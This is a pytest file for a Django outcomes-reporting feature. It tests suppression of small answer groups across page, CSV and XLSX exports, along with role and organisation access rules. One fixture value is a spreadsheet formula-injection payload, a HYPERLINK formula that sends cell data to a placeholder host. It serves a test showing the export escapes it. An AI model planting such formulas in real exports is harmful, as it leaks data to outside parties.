"""The outcomes report keeps outcomes/reports.py's suppression in every format: a group
of fewer than 5 answers never shows a count, in the page, the CSV or the XLSX. And text
someone typed (an improvement action's owner) cannot run as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.utils import timezone

from core.reporting.outcomes_report import outcomes_report
from core.reporting.periods import Period
from core.reporting.report_tables import SUPPRESSED, report_csv, report_xlsx
from outcomes.improvement import action_create, issue_create
from outcomes.reports import ReportScopeError
from tests.conftest import World, staff_user
from tests.factories import OrganisationFactory
from tests.outcomes.factories import submitted_response
from users.models import Role

TODAY = timezone.localdate()
PERIOD = Period.quarter_containing(TODAY)
EVIL_OWNER = '=HYPERLINK("https://example.invalid/?d="&B2,"Open")'
SHOWN = 7  # answers about physical health: all "better"
HIDDEN = 3  # of them, also about mental wellbeing: "worse"


@pytest.fixture
def answers(world: World) -> World:
    for index in range(SHOWN):
        given = {"physical_health": "better"}
        if index < HIDDEN:
            given["mental_wellbeing"] = "worse"
        submitted_response(world.holder_a, given, submitted_on=PERIOD.start)
    # Another ICB's answers, never in org X's report.
    for _ in range(6):
        submitted_response(world.holder_b, {"mental_wellbeing": "a_lot_worse"},
                           submitted_on=PERIOD.start)  # fmt: skip
    issue = issue_create(
        organisation=world.org_x, created_by=world.commissioner, title="Wellbeing is worse"
    )
    action_create(
        issue=issue,
        created_by=world.commissioner,
        description="Ask people what would help",
        owner=EVIL_OWNER,
        due_on=TODAY + datetime.timedelta(days=30),
    )
    return world


def _row(report: Any, key: str, label: str) -> list[Any]:
    return next(row for row in report.section(key).rows if row[0] == label)


def test_shown_figures_are_the_answers_and_small_groups_are_suppressed(answers: World) -> None:
    report = outcomes_report(user=answers.commissioner, organisation=answers.org_x, period=PERIOD)
    physical = _row(report, "outcomes_holder", "Physical health")
    assert physical[1] == SHOWN
    assert physical[7] == SHOWN
    assert physical[3] == physical[5] == 0
    assert str(physical[2]) == "100.0"
    wellbeing = _row(report, "outcomes_holder", "Mental wellbeing")
    assert wellbeing[1:] == [SUPPRESSED] * 7
    # Carers and staff gave no answers: every area hidden, none shown as 0.
    for key in ("outcomes_carer", "outcomes_staff"):
        assert all(row[1:] == [SUPPRESSED] * 7 for row in report.section(key).rows)
    for row in report.section("outcomes_process").rows:
        assert row[2:] == [SUPPRESSED] * 8


def test_the_csv_never_shows_a_count_for_a_small_group(answers: World) -> None:
    report = outcomes_report(user=answers.commissioner, organisation=answers.org_x, period=PERIOD)
    rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
    wellbeing = next(r for r in rows if r[:2] == ["Budget holders", "Mental wellbeing"])
    assert wellbeing[2:] == ["", "", "", "", "", "", "", "Fewer than 5 answers: not shown"]
    physical = next(r for r in rows if r[:2] == ["Budget holders", "Physical health"])
    assert physical[2:] == ["7", "100.0", "0", "0.0", "0", "0.0", "7", ""]
    assert str(HIDDEN) not in wellbeing


def test_the_xlsx_never_shows_a_count_for_a_small_group(answers: World) -> None:
    report = outcomes_report(user=answers.commissioner, organisation=answers.org_x, period=PERIOD)
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    rows = list(book["Budget holders"].iter_rows(values_only=True))
    wellbeing = next(r for r in rows if r[0] == "Mental wellbeing")
    assert wellbeing[1:] == (None,) * 7 + ("Fewer than 5 answers: not shown",)
    physical = next(r for r in rows if r[0] == "Physical health")
    assert physical[1] == SHOWN
    assert physical[7] == SHOWN


def test_the_printable_page_never_shows_a_count_for_a_small_group(
    answers: World, client_for: Any
) -> None:
    response = client_for(answers.commissioner).get(
        "/reports/print/",
        {"kind": "outcomes", "organisation": answers.org_x.pk, "period": PERIOD.key},
    )
    assert response.status_code == 200
    page = response.content.decode()
    start = page.index("Mental wellbeing")
    row = page[start : page.index("</tr>", start)]
    assert "Fewer than 5 answers: not shown" in row
    assert f">{HIDDEN}<" not in row
    assert f"{HIDDEN} " not in row.replace("5 answers", "")
    physical = page[page.index("Physical health") :]
    assert "100.0%" in physical[: physical.index("</tr>")]


def test_an_improvement_action_cannot_run_as_a_formula(answers: World) -> None:
    report = outcomes_report(user=answers.commissioner, organisation=answers.org_x, period=PERIOD)
    assert [row[2] for row in report.section("improvement_actions").rows] == [EVIL_OWNER]
    rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
    action = next(r for r in rows if r[:1] == ["Open improvement actions"])
    assert action[3] == "'" + EVIL_OWNER
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    cell = book["Open improvement actions"]["C2"]
    assert cell.value == "'" + EVIL_OWNER
    assert cell.data_type == "s"


def test_a_finance_officer_gets_the_figures_but_not_the_commissioners_actions(
    answers: World,
) -> None:
    report = outcomes_report(
        user=answers.finance_officer, organisation=answers.org_x, period=PERIOD
    )
    assert _row(report, "outcomes_holder", "Physical health")[1] == SHOWN
    assert report.section("improvement_actions").rows == []
    assert any("commissioners only" in note for note in report.notes)


def test_another_organisations_report_is_refused(answers: World) -> None:
    with pytest.raises(ReportScopeError):
        outcomes_report(user=answers.commissioner, organisation=answers.org_y, period=PERIOD)
    stranger = staff_user(OrganisationFactory(), Role.COMMISSIONER)
    with pytest.raises(ReportScopeError):
        outcomes_report(user=stranger, organisation=answers.org_x, period=PERIOD)
